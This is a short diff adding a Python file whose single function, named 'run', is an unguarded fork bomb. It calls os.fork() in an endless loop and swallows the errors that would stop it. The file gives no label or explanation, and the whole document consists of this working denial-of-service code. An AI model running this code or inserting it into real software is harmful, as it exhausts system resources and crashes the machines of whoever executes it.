@@ -1,0 +1,9 @@
+import os
+
+
+def run():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
